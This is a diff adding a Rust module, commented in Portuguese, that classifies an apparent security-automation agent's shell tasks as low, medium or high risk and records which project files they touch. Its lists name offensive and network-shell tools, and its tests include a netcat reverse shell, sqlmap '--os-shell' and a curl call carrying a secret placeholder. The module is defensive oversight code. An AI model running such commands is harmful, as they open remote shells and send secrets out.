@@ -0,0 +1,319 @@
+// --- MÓDULO RISCO ---
+// Antes de rodar, a gente olha a tarefa e responde duas perguntas:
+// "quão braba é?" (baixo/médio/alto) e "quais arquivos ela MEXE?".
+// Os arquivos mexidos dentro do projeto vão pro diário de undo.
+
+use crate::mensagens;
+use crate::msg;
+use crate::oraculo::FenrirTask;
+use crate::politica;
+use crate::resolvedor;
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+
+// --- CONSTANTES (só do Risco) ---
+
+// Binários que mexem em arquivo (e como achar QUAIS)
+const APAGAM: &[&str] = &["rm", "rmdir", "shred", "unlink"];
+const ESCREVEM: &[&str] = &["touch", "truncate", "tee", "mkdir"];
+const MOVEM: &[&str] = &["mv", "cp", "install", "rsync"];
+const EDITAM_NO_LUGAR: &[&str] = &["sed", "perl"]; // Só com '-i'
+
+// Isso aqui já é alto de cara
+const PERIGOSOS: &[&str] = &["dd", "mkfs", "fdisk", "parted", "wipefs", "chown", "chmod", "shutdown", "reboot"];
+
+// Fala com outra máquina (ou roda coisa nela): no mínimo médio
+const REMOTOS: &[&str] = &[
+    "ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "curl", "wget", "sqlmap", "hydra",
+    "nmap", "masscan", "gobuster", "ffuf", "nikto", "wpscan", "msfconsole", "smbclient", "rpcclient", "evil-winrm",
+    "crackmapexec", "nxc",
+];
+
+// Só olham (ou só mostram): o que fica no baixo. Fora dessa lista e das de
+// cima, binário que a gente não conhece é médio: na dúvida, não aprova sozinho.
+const TRANQUILOS: &[&str] = &[
+    "ls", "cat", "echo", "printf", "pwd", "whoami", "id", "head", "tail", "grep", "egrep", "fgrep", "rg", "wc",
+    "sort", "uniq", "cut", "tr", "file", "stat", "date", "uname", "hostname", "which", "type", "true", "false",
+    "cd", "less", "more", "diff", "du", "df", "ps", "jq", "test", "[", "basename", "dirname", "realpath",
+    "readlink", "md5sum", "sha1sum", "sha256sum", "base64", "xxd", "strings", "tree", "column", "seq", "sleep",
+    "nproc", "free", "uptime", "ip", "ifconfig", "ss", "netstat", "dig", "host", "nslookup", "ping", "whois",
+];
+
+// --- CONTRATO ---
+
+// Ordem importa: do mais tranquilo pro mais brabo
+// (É o que o '--auto-aprovar' compara: "baixo", "medio" ou "alto")
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Default)]
+#[serde(rename_all = "kebab-case")]
+pub enum Nivel {
+    #[default]
+    Baixo,
+    Medio,
+    Alto,
+}
+
+impl Nivel {
+    pub fn rotulo(&self) -> &'static str {
+        match self {
+            Nivel::Baixo => mensagens::texto("risco.baixo"),
+            Nivel::Medio => mensagens::texto("risco.medio"),
+            Nivel::Alto => mensagens::texto("risco.alto"),
+        }
+    }
+}
+
+#[derive(Serialize, Debug, Default)]
+pub struct Analise {
+    pub nivel: Nivel,
+    pub motivos: Vec<String>,
+    pub arquivos: Vec<PathBuf>, // Arquivos (absolutos) DENTRO do projeto que a tarefa mexe
+}
+
+impl Analise {
+    fn subir(&mut self, nivel: Nivel, motivo: String) {
+        self.nivel = self.nivel.max(nivel);
+        if !self.motivos.contains(&motivo) {
+            self.motivos.push(motivo);
+        }
+    }
+
+    pub fn modifica_arquivos(&self) -> bool {
+        !self.arquivos.is_empty()
+    }
+}
+
+// --- FUNÇÕES PÚBLICAS ---
+
+// Analisa a tarefa rodando a partir da pasta 'cwd' (a da sessão)
+pub fn analisar(task: &FenrirTask, cwd: &Path) -> Analise {
+    let mut analise = Analise::default();
+    let raiz = resolvedor::raiz_do_projeto(cwd);
+
+    match task.task_type.as_str() {
+        "execute_command" => {
+            if let Some(cmd) = &task.command_to_run {
+                analisar_shell(cmd, cwd, &raiz, &mut analise);
+            }
+        }
+        "edit_file" => {
+            analise.subir(Nivel::Medio, msg!("risco.edita"));
+            // (O 'edit_file' resolve o nome e guarda o undo sozinho)
+        }
+        "nmap" | "gobuster" => {
+            analise.subir(Nivel::Medio, msg!("risco.scan"));
+        }
+        "sqlmap" => {
+            analise.subir(Nivel::Alto, msg!("risco.sqli"));
+            let flags = task
+                .task_args
+                .as_ref()
+                .and_then(|a| a.get("flags"))
+                .and_then(|f| f.as_array())
+                .map(|f| f.iter().filter_map(|v| v.as_str()).collect::<Vec<_>>().join(" "))
+                .unwrap_or_default();
+            for braba in ["--os-shell", "--os-pwn", "--file-write", "--sql-shell"] {
+                if flags.contains(braba) {
+                    analise.subir(Nivel::Alto, msg!("risco.sqlmap_brabo", braba));
+                }
+            }
+        }
+        _ => {} // read_file, navigate, open_editor, unknown: só olhar não machuca
+    }
+
+    analise
+}
+
+// --- FUNÇÕES PRIVADAS ---
+
+fn analisar_shell(cmd: &str, cwd: &Path, raiz: &Path, analise: &mut Analise) {
+    // Marcador de segredo vira o valor de verdade na hora de rodar: vai levar ele pra algum lugar
+    if cmd.contains("__SEGREDO_") {
+        analise.subir(Nivel::Medio, msg!("risco.leva_segredo"));
+    }
+    if cmd.contains("| sh") || cmd.contains("| bash") || cmd.contains("|sh") || cmd.contains("|bash") {
+        analise.subir(Nivel::Alto, msg!("risco.pipe_shell"));
+    }
+
+    for tokens in politica::segmentos_shell(cmd) {
+        let mut tokens: Vec<String> = tokens.into_iter().skip_while(|t| t.contains('=') && !t.starts_with('-')).collect();
+        if tokens.first().is_some_and(|t| t == "sudo") {
+            analise.subir(Nivel::Alto, msg!("risco.sudo"));
+            tokens.remove(0);
+        }
+        let Some(binario) = tokens.first().map(|b| b.rsplit('/').next().unwrap_or(b).to_string()) else {
+            continue;
+        };
+
+        let (args, redirecionados) = separar_redirecionamentos(&tokens[1..]);
+        let mut mexidos: Vec<String> = redirecionados;
+        let livres: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
+        let flags: Vec<&String> = args.iter().filter(|a| a.starts_with('-')).collect();
+
+        if PERIGOSOS.contains(&binario.as_str()) {
+            analise.subir(Nivel::Alto, msg!("risco.estrago", binario));
+        } else if REMOTOS.contains(&binario.as_str()) {
+            analise.subir(Nivel::Medio, msg!("risco.remoto", binario));
+            if matches!(binario.as_str(), "nc" | "ncat" | "netcat") && flags.iter().any(|f| *f == "-e" || *f == "-c" || f.starts_with("--exec")) {
+                analise.subir(Nivel::Alto, msg!("risco.shell_remoto", binario));
+            }
+            for braba in ["--os-shell", "--os-pwn", "--file-write", "--sql-shell"] {
+                if binario == "sqlmap" && flags.iter().any(|f| f.starts_with(braba)) {
+                    analise.subir(Nivel::Alto, msg!("risco.sqlmap_brabo", braba));
+                }
+            }
+        } else if !TRANQUILOS.contains(&binario.as_str())
+            && ![APAGAM, ESCREVEM, MOVEM, EDITAM_NO_LUGAR].iter().any(|lista| lista.contains(&binario.as_str()))
+        {
+            analise.subir(Nivel::Medio, msg!("risco.desconhecido", binario));
+        }
+
+        if APAGAM.contains(&binario.as_str()) {
+            analise.subir(Nivel::Medio, msg!("risco.apaga", binario));
+            if flags.iter().any(|f| !f.starts_with("--") && (f.contains('r') || f.contains('R')) && f.contains('f')) {
+                analise.subir(Nivel::Alto, msg!("risco.rf", binario));
+            }
+            mexidos.extend(livres.iter().map(|s| s.to_string()));
+        } else if ESCREVEM.contains(&binario.as_str()) {
+            // 'truncate -s 0 x': o valor do '-s' não é arquivo
+            mexidos.extend(livres.iter().filter(|a| a.parse::<i64>().is_err()).map(|s| s.to_string()));
+        } else if MOVEM.contains(&binario.as_str()) {
+            if let Some((destino, origens)) = livres.split_last() {
+                if binario == "mv" {
+                    mexidos.extend(origens.iter().map(|s| s.to_string()));
+                }
+                let destino_abs = absoluto(cwd, destino);
+                if destino_abs.is_dir() {
+                    // 'cp a b pasta/' => mexe em pasta/a e pasta/b
+                    for origem in origens {
+                        if let Some(nome) = Path::new(origem.as_str()).file_name() {
+                            mexidos.push(destino_abs.join(nome).display().to_string());
+                        }
+                    }
+                } else {
+                    mexidos.push(destino.to_string());
+                }
+            }
+        } else if EDITAM_NO_LUGAR.contains(&binario.as_str()) && flags.iter().any(|f| f.starts_with("-i")) {
+            // Sem '-e' o primeiro argumento livre é o script, não arquivo
+            let tem_script_em_flag = flags.iter().any(|f| *f == "-e" || *f == "-f");
+            let pular = if tem_script_em_flag { 0 } else { 1 };
+            mexidos.extend(livres.iter().skip(pular).map(|s| s.to_string()));
+        } else if binario == "dd" {
+            mexidos.extend(args.iter().filter_map(|a| a.strip_prefix("of=")).map(String::from));
+        }
+
+        for texto in mexidos {
+            for caminho in expandir(cwd, &texto) {
+                if caminho.starts_with(raiz) {
+                    analise.subir(Nivel::Medio, msg!("risco.mexe_projeto"));
+                    if !analise.arquivos.contains(&caminho) {
+                        analise.arquivos.push(caminho);
+                    }
+                } else {
+                    analise.subir(Nivel::Alto, msg!("risco.mexe_fora", caminho.display()));
+                }
+            }
+        }
+    }
+}
+
+// Tira '>', '>>', '2>' etc. dos args e devolve os arquivos redirecionados
+fn separar_redirecionamentos(tokens: &[String]) -> (Vec<String>, Vec<String>) {
+    let mut args = Vec::new();
+    let mut arquivos = Vec::new();
+    let mut iter = tokens.iter();
+
+    while let Some(token) = iter.next() {
+        let sem_fd = token.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&');
+        if let Some(resto) = sem_fd.strip_prefix(">>").or_else(|| sem_fd.strip_prefix('>')) {
+            if resto.starts_with('&') {
+                continue; // '2>&1' não é arquivo
+            }
+            match resto {
+                "" => arquivos.extend(iter.next().cloned()),
+                arquivo => arquivos.push(arquivo.to_string()),
+            }
+        } else if let Some((antes, depois)) = token.split_once('>') {
+            // 'echo oi>arquivo'
+            args.push(antes.to_string());
+            if !depois.is_empty() && !depois.starts_with('&') {
+                arquivos.push(depois.trim_start_matches('>').to_string());
+            }
+        } else {
+            args.push(token.clone());
+        }
+    }
+    (args, arquivos)
+}
+
+// Caminho absoluto (e normalizado) a partir do cwd, com '~' virando $HOME
+fn absoluto(cwd: &Path, texto: &str) -> PathBuf {
+    let bruto = match (texto.strip_prefix('~'), std::env::var_os("HOME")) {
+        (Some(resto), Some(home)) => PathBuf::from(home).join(resto.trim_start_matches('/')),
+        _ => cwd.join(texto),
+    };
+    let mut limpo = PathBuf::new();
+    for parte in bruto.components() {
+        match parte {
+            Component::ParentDir => {
+                limpo.pop();
+            }
+            Component::CurDir => {}
+            outra => limpo.push(outra),
+        }
+    }
+    limpo
+}
+
+// 'rm *.log' => os .log que existem na pasta (curinga só no nome do arquivo)
+fn expandir(cwd: &Path, texto: &str) -> Vec<PathBuf> {
+    let caminho = absoluto(cwd, texto);
+    let nome = caminho.file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default();
+    if !nome.contains('*') && !nome.contains('?') {
+        return vec![caminho];
+    }
+
+    let pasta = caminho.parent().map(Path::to_path_buf).unwrap_or_else(|| cwd.to_path_buf());
+    let Ok(entradas) = fs::read_dir(&pasta) else {
+        return Vec::new();
+    };
+    let mut achados: Vec<PathBuf> = entradas
+        .filter_map(Result::ok)
+        .filter(|e| politica::casa_padrao(&nome, &e.file_name().to_string_lossy()))
+        .map(|e| e.path())
+        .collect();
+    achados.sort();
+    achados
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::executor;
+
+    fn nivel(cmd: &str) -> Nivel {
+        let task = FenrirTask {
+            task_type: "execute_command".to_string(),
+            command_to_run: Some(cmd.to_string()),
+            ..Default::default()
+        };
+        analisar(&task, Path::new("/tmp")).nivel
+    }
+
+    #[test]
+    fn so_olhar_fica_no_baixo() {
+        assert_eq!(nivel("ls -la | grep x; cat /etc/hostname"), Nivel::Baixo);
+    }
+
+    #[test]
+    fn desconhecido_e_rede_nao_passam_no_teto_baixo() {
+        // (Teto padrão do não-interativo: baixo)
+        for cmd in ["frobnicate --tudo", "ssh alvo 'id'", "curl http://x/?k=__SEGREDO_1__", "ls; python3 x.py"] {
+            assert!(nivel(cmd) >= Nivel::Medio, "{cmd}");
+            assert!(!executor::risco_liberado(nivel(cmd)), "{cmd}");
+        }
+        assert_eq!(nivel("nc -e /bin/sh 10.0.0.1 4444"), Nivel::Alto);
+        assert_eq!(nivel("sqlmap -u http://x --os-shell"), Nivel::Alto);
+    }
+}